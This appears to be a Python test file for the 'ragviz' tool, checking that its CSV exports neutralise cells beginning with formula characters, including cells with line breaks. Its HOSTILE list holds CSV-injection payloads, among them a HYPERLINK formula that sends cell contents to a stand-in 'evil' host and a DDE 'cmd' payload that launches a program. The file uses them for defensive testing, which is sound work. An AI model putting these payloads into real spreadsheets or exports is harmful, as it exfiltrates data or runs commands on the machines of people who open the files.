"""Issue 16: every CSV ragviz writes neutralises cells starting with = + - @, tab or CR (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd

from ragviz.cli.main import main
from ragviz.data.load import load
from ragviz.export.files import export_bytes
from ragviz.export.records import csv_cell
from ragviz.ui.compare import diff_csv

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]


def _rows_file(tmp_path):
    path = tmp_path / "hostile.jsonl"
    rows = [
        {
            "id": ident,
            "question": "Where?",
            "documents": ["Paris is in France."],
            "response": "Paris.",
            "generation_model_name": "@model",
            "all_relevant_sentence_keys": ["0a"],
            "all_utilized_sentence_keys": ["0a"],
            "unsupported_response_sentence_keys": [],
        }
        for ident in HOSTILE
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    for hostile in HOSTILE:
        assert "'" + hostile in cells, (hostile, cells[:20])
    assert not [c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"}]


def test_metrics_cli_csv_is_neutralised(tmp_path):
    out = tmp_path / "m.csv"
    assert main(["metrics", str(_rows_file(tmp_path)), "--format", "csv", "-o", str(out)]) == 0
    _assert_neutral(out.read_text())


def test_export_metrics_csv_is_neutralised(tmp_path):
    ds = load([_rows_file(tmp_path)]).dataset
    _assert_neutral(export_bytes(ds, None, None, "csv").decode())


def test_compare_download_is_neutralised_and_numbers_stay_numbers():
    table = pd.DataFrame({"example": HOSTILE, "Δ relevance": [-0.5] * len(HOSTILE)})
    text = diff_csv(table)
    _assert_neutral(text)
    assert "-0.5" in _cells(text)


def test_a_leading_carriage_return_is_neutralised_too():
    assert csv_cell("\r=1") == "'\r'=1" and csv_cell(-3) == -3 and csv_cell(None) is None


# -- issue 28 item 4: a line break inside a cell ---------------------------------------------------
LINE_BREAK_HOSTILE = ["\r=1+1", "ok\r=2+2", "a\n@SUM(1)", "b\r\n-3+4", "c\r\r+5"]


def spreadsheet_rows(text: str) -> list[list[str]]:
    """Split CSV text as LibreOffice does: a quoted field keeps its line breaks, but outside quotes a
    bare CR ends the row as LF and CR LF do (Python's csv reader would keep the bare CR in the cell)."""
    rows: list[list[str]] = []
    row: list[str] = []
    cell: list[str] = []
    quoted = False
    i = 0
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell.append(ch)
        elif ch == '"':
            quoted = True
        elif ch == ",":
            row.append("".join(cell))
            cell = []
        elif ch in "\r\n":
            row.append("".join(cell))
            rows.append(row)
            row, cell = [], []
            if ch == "\r" and text[i + 1 : i + 2] == "\n":
                i += 1
        else:
            cell.append(ch)
        i += 1
    if cell or row:
        row.append("".join(cell))
        rows.append(row)
    return rows


def _assert_no_formula_at_any_line(text: str, n_rows: int) -> None:
    rows = spreadsheet_rows(text)
    assert len(rows) == n_rows + 1, rows  # no row split inside a cell
    for row in rows:
        for cell in row:
            for line in cell.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
                assert not line.startswith(("=", "+", "@", "\t")), (cell, rows)
                assert not (line.startswith("-") and not line.lstrip("-").replace(".", "").isdigit()), cell


def _line_break_rows(tmp_path):
    path = tmp_path / "breaks.jsonl"
    rows = [
        {
            "id": ident,
            "question": f"Where?{ident}",
            "documents": ["Paris is in France."],
            "response": "Paris.",
            "all_relevant_sentence_keys": ["0a"],
            "all_utilized_sentence_keys": ["0a"],
            "unsupported_response_sentence_keys": [],
        }
        for ident in LINE_BREAK_HOSTILE
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def test_a_line_break_in_a_cell_is_quoted_and_no_line_starts_a_formula_cli_metrics(tmp_path):
    out = tmp_path / "m.csv"
    assert main(["metrics", str(_line_break_rows(tmp_path)), "--format", "csv", "-o", str(out)]) == 0
    text = out.read_bytes().decode()
    _assert_no_formula_at_any_line(text, len(LINE_BREAK_HOSTILE))
    assert "'\r'=1+1" in [c for row in spreadsheet_rows(text) for c in row]


def test_a_line_break_in_a_cell_is_quoted_in_the_export_and_deepeval_csv(tmp_path):
    ds = load([_line_break_rows(tmp_path)]).dataset
    _assert_no_formula_at_any_line(export_bytes(ds, None, None, "csv").decode(), len(LINE_BREAK_HOSTILE))
    out = tmp_path / "deepeval.csv"
    assert main(["convert", str(_line_break_rows(tmp_path)), "--to", "deepeval", "-o", str(out)]) == 0
    _assert_no_formula_at_any_line(out.read_bytes().decode(), len(LINE_BREAK_HOSTILE))


def test_a_line_break_in_a_cell_is_quoted_in_the_compare_download():
    table = pd.DataFrame({"example": LINE_BREAK_HOSTILE, "Δ relevance": [-0.5] * len(LINE_BREAK_HOSTILE)})
    text = diff_csv(table)
    _assert_no_formula_at_any_line(text, len(LINE_BREAK_HOSTILE))
    assert [row[1] for row in spreadsheet_rows(text)[1:]] == ["-0.5"] * len(LINE_BREAK_HOSTILE)
